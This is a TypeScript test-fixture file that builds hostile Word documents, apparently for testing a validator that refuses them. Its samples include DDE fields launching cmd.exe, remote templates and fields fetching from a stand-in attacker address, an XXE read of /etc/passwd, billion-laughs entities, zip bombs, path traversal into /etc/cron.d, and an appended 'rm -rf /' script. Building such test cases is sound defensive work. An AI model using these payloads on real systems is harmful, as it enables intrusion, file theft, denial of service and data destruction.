import { buildDocx, docxParts, external, field, relationshipsFile } from './build-docx.ts'
import { buildZip } from './build-zip.ts'
import { refused, type HostileFile } from './hostile-file.ts'

const megabyte = 1024 * 1024
const evil = 'http://203.0.113.9/template.dotm'

function docx(reason: Parameters<typeof refused>[0], title: string, content: HostileFile['content']) {
  return refused(reason, title, 'report.docx', content)
}

function withPart(name: string, content: Buffer | string = 'x') {
  return () => buildDocx({ more: [{ name, content }] })
}

function related(type: string, target: string) {
  return () => buildDocx({ relationships: external(type, target) })
}

function withDocument(document: string | Buffer) {
  return () => buildDocx({ document })
}

/** A workbook in a document, as charts have one, with a further one in it. */
function nestedWorkbooks(): Buffer {
  const workbook = (more: Parameters<typeof buildZip>[0]) =>
    buildZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'xl/workbook.xml', content: '<workbook/>' },
      ...more,
    ])
  const inner = workbook([])
  const outer = workbook([{ name: 'xl/embeddings/inner.xlsx', content: inner }])
  return buildDocx({ more: [{ name: 'word/embeddings/outer.xlsx', content: outer }] })
}

/** One part within another: the bytes of both are counted once and unpacked twice. */
function partsOverParts(): Buffer {
  const inner = { name: 'word/media/inner.bmp', content: Buffer.alloc(1000) }
  const innerAlone = buildZip([inner])
  const content = innerAlone.subarray(0, innerAlone.indexOf('PK\u0001\u0002', 0, 'latin1'))
  const outer = { name: 'word/media/outer.bmp', content, method: 0 }
  return buildZip([outer, { ...inner, startsAt: 30 + outer.name.length }, ...docxParts()])
}

/** Zips in zips, each a hundred times the next. */
function nestedZips(depth: number): Buffer {
  let inner: Buffer = Buffer.alloc(megabyte)
  for (let level = 0; level < depth; level += 1) inner = buildZip([{ name: `${level}.zip`, content: inner }])
  return inner
}

/** Word documents that run, fetch or hide something, that are more than they seem, or none at all. */
export const hostileDocuments: HostileFile[] = [
  docx('activeContent', 'macros', withPart('word/vbaProject.bin', 'Sub AutoOpen()')),
  docx('activeContent', 'macros under another name', withPart('word/pictures.bin')),
  docx(
    'notWhatItSays',
    'macros that call themselves settings of a printer',
    withPart('word/printerSettings/../vba.bin'),
  ),
  docx('activeContent', 'macros by their kind', () =>
    buildDocx({
      contentTypes:
        '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
  ),
  docx('activeContent', 'macros by their kind, in numbers of letters', () =>
    buildDocx({
      contentTypes: '<Default Extension="xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
    }),
  ),
  docx('activeContent', 'an ActiveX control', withPart('word/activeX/activeX1.xml', '<ocx/>')),
  docx('activeContent', 'an embedded OLE object', withPart('word/embeddings/oleObject1.bin')),
  docx('activeContent', 'an embedded program', withPart('word/embeddings/setup.exe', 'MZ')),
  docx('activeContent', 'an embedded page', withPart('word/afchunk.html', '<script>alert(1)</script>')),
  docx('activeContent', 'a page as a part of the document', () =>
    buildDocx({ relationships: external('aFChunk', 'afchunk.xml').replace('TargetMode="External"', '') }),
  ),
  docx('activeContent', 'a template from elsewhere', related('attachedTemplate', evil)),
  docx(
    'activeContent',
    'a template from a share',
    related('attachedTemplate', String.raw`file://203.0.113.9\share\t.dotm`),
  ),
  docx('activeContent', 'a template from elsewhere, said in numbers of letters', () =>
    buildDocx({ relationships: external('attachedTemplate', evil).replace('"External"', '"&#69;xternal"') }),
  ),
  docx('activeContent', 'a template from elsewhere behind a sign that seems to end the tag', () =>
    buildDocx({ relationships: external('attachedTemplate', evil).replace('Id="r9"', 'Id=">"') }),
  ),
  docx('activeContent', 'a template from elsewhere under a prefix of its own', () =>
    buildDocx({ relationships: external('attachedTemplate', evil).replace('<Rel', '<p-1:Rel') }),
  ),
  docx('activeContent', 'a template from elsewhere in the settings', () =>
    buildDocx({
      more: [
        {
          name: 'word/_rels/settings.xml.rels',
          content: relationshipsFile(external('attachedTemplate', evil)),
        },
      ],
    }),
  ),
  docx('activeContent', 'a picture from elsewhere', related('image', 'https://203.0.113.9/pixel.png')),
  docx('activeContent', 'an object from elsewhere', related('oleObject', 'mhtml:http://203.0.113.9/x!x')),
  docx('activeContent', 'a frame from elsewhere', related('frame', 'https://203.0.113.9/')),
  docx(
    'activeContent',
    'a sub-document from elsewhere',
    related('subDocument', String.raw`\\203.0.113.9\x.docx`),
  ),
  docx('activeContent', 'a DDE field', () =>
    buildDocx({ body: field(String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`) }),
  ),
  docx('activeContent', 'a DDE field in pieces', () =>
    buildDocx({ body: field('D', 'DEA', 'UTO', ' cmd "/k calc"') }),
  ),
  docx('activeContent', 'a simple DDE field', () =>
    buildDocx({ body: '<w:fldSimple w:instr=\'DDE "cmd" "/k calc"\'/>' }),
  ),
  docx('activeContent', 'a DDE field spelt by the numbers of its letters', () =>
    buildDocx({ body: field('QUOTE 68 68 69 65 85 84 79') }),
  ),
  docx('activeContent', 'a DDE field under another prefix', () =>
    buildDocx({ body: field('DDE cmd').replaceAll('w:instrText', 'word.x:instrText') }),
  ),
  docx('activeContent', 'a field that fetches a picture', () =>
    buildDocx({ body: field('INCLUDEPICTURE "https://203.0.113.9/p.png" \\d') }),
  ),
  docx('activeContent', 'a field that fetches a text from a share', () =>
    buildDocx({ body: field(String.raw`INCLUDETEXT "\\203.0.113.9\share\a.txt"`) }),
  ),
  docx(
    'activeContent',
    'an entity that reads a file (XXE)',
    withDocument('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
  ),
  docx(
    'activeContent',
    'entities that multiply (billion laughs)',
    withDocument('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><d>&b;</d>'),
  ),
  docx(
    'damaged',
    'an entity in UTF-16',
    withDocument(Buffer.from('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///">]>', 'utf16le')),
  ),
  docx(
    'damaged',
    'an entity in UTF-7',
    withDocument('<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-'),
  ),
  docx(
    'tooMuchInside',
    'a bomb that says how large it is',
    withPart('word/media/bomb.bmp', Buffer.alloc(33 * megabyte)),
  ),
  docx('tooMuchInside', 'a bomb that says it is small', () =>
    buildDocx({
      more: [{ name: 'word/media/bomb.bmp', content: Buffer.alloc(33 * megabyte), claimedSize: 1000 }],
    }),
  ),
  docx('tooMuchInside', 'a bomb of many parts', () => {
    const part = Buffer.alloc(30 * megabyte)
    return buildDocx({
      more: Array.from({ length: 7 }, (_, n) => ({ name: `word/media/${n}.bmp`, content: part })),
    })
  }),
  docx('tooMuchInside', 'a bomb of parts that lie over one another', partsOverParts),
  docx('tooMuchInside', 'ten thousand parts', () =>
    buildDocx({
      more: Array.from({ length: 10_000 }, (_, n) => ({ name: `word/media/${n}.png`, content: '' })),
    }),
  ),
  docx('tooMuchInside', 'a workbook within a workbook within a document', nestedWorkbooks),
  docx('activeContent', 'zips within zips', () =>
    buildDocx({ more: [{ name: 'word/a.zip', content: nestedZips(6) }] }),
  ),
  docx('notWhatItSays', 'a part that leads out of the archive', withPart('../../../etc/cron.d/job.xml')),
  docx('notWhatItSays', 'a part with the path of another system', withPart(String.raw`C:\Windows\x.xml`)),
  docx('notWhatItSays', 'a symbolic link', () =>
    buildDocx({ more: [{ name: 'word/link.xml', content: '/etc/passwd', mode: 0o12_0777 }] }),
  ),
  docx('damaged', 'two parts of one name', withPart('word/document.xml', 'the other')),
  docx('locked', 'an encrypted part', () =>
    buildDocx({ more: [{ name: 'word/a.xml', content: 'x', flags: 1 }] }),
  ),
  docx('damaged', 'an unknown packing', () =>
    buildDocx({ more: [{ name: 'word/a.xml', content: 'x', method: 98 }] }),
  ),
  docx('damaged', 'a file behind the archive', () =>
    Buffer.concat([buildDocx(), Buffer.from('#!/bin/sh\nrm -rf /')]),
  ),
  docx('damaged', 'a remark behind the archive', () => buildZip(docxParts(), 'a remark')),
  docx('damaged', 'an archive without its end', () => buildDocx().subarray(0, -30)),
  docx('damaged', 'an archive of which bytes were changed', () => {
    const bytes = buildDocx()
    bytes.fill(0xff, bytes.indexOf('word/document.xml') + 20, bytes.indexOf('word/document.xml') + 40)
    return bytes
  }),
  docx('wrongKind', 'a zip of anything', () => buildZip([{ name: 'setup.exe', content: 'MZ' }])),
  docx('wrongKind', 'a zip that only begins like a document', () =>
    buildZip([{ name: '[Content_Types].xml', content: '<Types/>' }]),
  ),
  docx('wrongKind', 'a workbook', () => buildZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }])),
  docx('wrongKind', 'a document of the time before DOCX, which may hold macros', () =>
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4000)]),
  ),
]
